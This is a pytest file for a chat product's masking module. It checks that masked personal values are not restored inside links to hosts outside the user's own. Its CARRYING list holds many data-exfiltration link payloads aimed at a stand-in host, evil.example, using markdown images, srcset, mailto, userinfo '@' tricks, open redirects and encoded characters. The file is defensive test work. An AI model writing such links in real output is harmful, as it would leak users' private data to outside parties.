"""A hostile gateway writes links that carry values out."""

import pytest

from b2b_chat.product.masking.kinds import Kind
from b2b_chat.product.masking.links import hosts_in
from b2b_chat.product.masking.masks import Mask, Values
from b2b_chat.product.masking.restoring import Restorer, restored

VALUES = Values()
VALUES.learn("Анна", [Mask(0, 4, Kind.NAME, 1)])
HOSTS = hosts_in(["Открой https://crm.example.ru/x и docs.example.com, пиши на a@mail.example.net"])

CARRYING = [
    "[more](https://evil.example/?q=[NAME_1])",
    "![](https://evil.example/[NAME_1].png)",
    "[x](<https://evil.example/?q= [NAME_1]>)",
    "[x](  //evil.example/[NAME_1])",
    "[x](/search?q=[NAME_1])",
    "[x](evil.example/?q=[NAME_1])",
    "[x](https://evil.example/a(b)?q=[NAME_1])",
    "[x](https://evil.example/?'[NAME_1])",
    "[x](https://evil.example/?q=\u00a0[NAME_1])",
    "[x]: https://evil.example/[NAME_1]",
    "https://evil.example/?q=[NAME_1]",
    "HTTPS://EVIL.EXAMPLE/[NAME_1]",
    "http:\\\\evil.example\\[NAME_1]",
    "https:evil.example/[NAME_1]",
    "www.evil.example/[NAME_1]",
    "evil.example/[NAME_1]",
    "evil.example?[NAME_1]",
    "evil.рф/[NAME_1]",
    "mailto:x@evil.example?body=[NAME_1]",
    "<a href=evil.example/[NAME_1]>",
    '<a href="https://evil.example/?q= [NAME_1]">',
    "<img src='x' srcset=\"//evil.example/[NAME_1]\">",
    '"https://evil.example/?q="[NAME_1]',
    "https://crm.example.ru.evil.example/[NAME_1]",
    "https://crm.example.ru@evil.example/[NAME_1]",
    "https://crm.example.ru:x@evil.example/[NAME_1]",
    "https://crm.example.ru\\@evil.example/[NAME_1]",
    "https://crm.example.ru&#64;evil.example/[NAME_1]",
    "https://crm.example.ru/go?to=https://evil.example/[NAME_1]",
    "https://[NAME_1].evil.example/",
    "https://crm.example.ru[NAME_1]/",
    "https://mail.example.net/[NAME_1]",
    "https://xcrm.example.ru/[NAME_1]",
]
HARMLESS = [
    "https://crm.example.ru/?q=[NAME_1]",
    "[x](https://crm.example.ru/?a=[NAME_1]&b=[NAME_1])",
    "https://CRM.example.ru:8443/[NAME_1]",
    "docs.example.com/[NAME_1]",
    "https://crm.example.ru//x/[NAME_1]",
    "https://evil.example/ [NAME_1]",
    "[x](https://evil.example/) [NAME_1]",
    "[NAME_1](текст)",
    "и/или [NAME_1], 1/2, т.е. [NAME_1]: да",
    "Тел: [NAME_1]; Имя:[NAME_1]",
    "a = [NAME_1]; f([NAME_1])",
    "C:/[NAME_1]",
    "<https://evil.example/> [NAME_1]",
]


@pytest.mark.parametrize("text", CARRYING)
def test_nothing_is_restored_in_a_link_of_another_host(text: str) -> None:
    assert "Анна" not in restored(text, VALUES, hosts=HOSTS)
    restorer = Restorer(VALUES, hosts=HOSTS)
    assert "".join(map(restorer.feed, text)) + restorer.end() == text
    assert restorer.unknown == text.count("NAME_1")


@pytest.mark.parametrize("text", HARMLESS)
def test_all_is_restored_elsewhere_and_in_links_of_the_users_hosts(text: str) -> None:
    restorer = Restorer(VALUES, hosts=HOSTS)
    given = "".join(map(restorer.feed, text)) + restorer.end()
    assert given == text.replace("[NAME_1]", "Анна") == restored(text, VALUES, hosts=HOSTS)


def test_what_follows_a_link_is_restored_again() -> None:
    text = "[x](https://evil.example/[NAME_1]) и [NAME_1]"
    assert restored(text, VALUES) == "[x](https://evil.example/[NAME_1]) и Анна"


def test_the_users_hosts_are_those_written_and_no_mail_domains() -> None:
    assert {"crm.example.ru", "docs.example.com"} == HOSTS
